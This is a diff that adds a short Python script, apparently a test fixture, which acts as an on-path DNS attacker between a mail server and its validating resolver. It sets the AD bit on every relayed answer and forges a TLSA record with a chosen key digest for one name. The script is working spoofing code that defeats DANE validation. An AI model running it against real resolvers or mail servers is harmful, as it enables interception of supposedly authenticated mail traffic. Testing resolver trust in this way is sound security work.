@@ -1,0 +1,61 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: BSD-2-Clause
+"""ad_forger.py - an on-path attacker between an MTA and its upstream
+validating resolver: every answer is passed on with the AD bit set, and the
+TLSA query for one name is answered with a forged record (AD set too).
+
+    ad_forger.py LISTEN-ADDR UPSTREAM-ADDR TLSA-OWNER HEX-SHA256-SPKI PIDFILE
+
+Only what the test needs: UDP, one question per message, no compression of
+the forged answer beyond a pointer to the question."""
+import os
+import socket
+import struct
+import sys
+
+listen, upstream, owner, digest, pidfile = sys.argv[1:6]
+digest = bytes.fromhex(digest)
+
+
+def qname(msg):
+    """the question name (lower case, dotted) and the offset past QTYPE/QCLASS"""
+    i, labels = 12, []
+    while msg[i]:
+        labels.append(msg[i + 1:i + 1 + msg[i]].decode("ascii", "replace").lower())
+        i += 1 + msg[i]
+    qtype = struct.unpack("!H", msg[i + 1:i + 3])[0]
+    return ".".join(labels), qtype, i + 5
+
+
+def forged(query, end):
+    head = query[:2] + struct.pack("!HHHHH", 0x81A0, 1, 1, 0, 0)  # QR RD RA AD
+    rdata = bytes([3, 1, 1]) + digest
+    rr = struct.pack("!HHHIH", 0xC00C, 52, 1, 60, len(rdata)) + rdata
+    return head + query[12:end] + rr
+
+
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.bind((listen, 53))
+with open(pidfile, "w") as f:
+    f.write(str(os.getpid()))
+while True:
+    q, peer = s.recvfrom(4096)
+    try:
+        name, qtype, end = qname(q)
+    except (IndexError, struct.error):
+        continue
+    if qtype == 52 and name == owner.lower().rstrip("."):
+        s.sendto(forged(q, end), peer)
+        continue
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.settimeout(5)
+    try:
+        u.sendto(q, (upstream, 53))
+        r, _ = u.recvfrom(65535)
+    except OSError:
+        continue
+    finally:
+        u.close()
+    r = bytearray(r)
+    r[3] |= 0x20  # AD
+    s.sendto(bytes(r), peer)
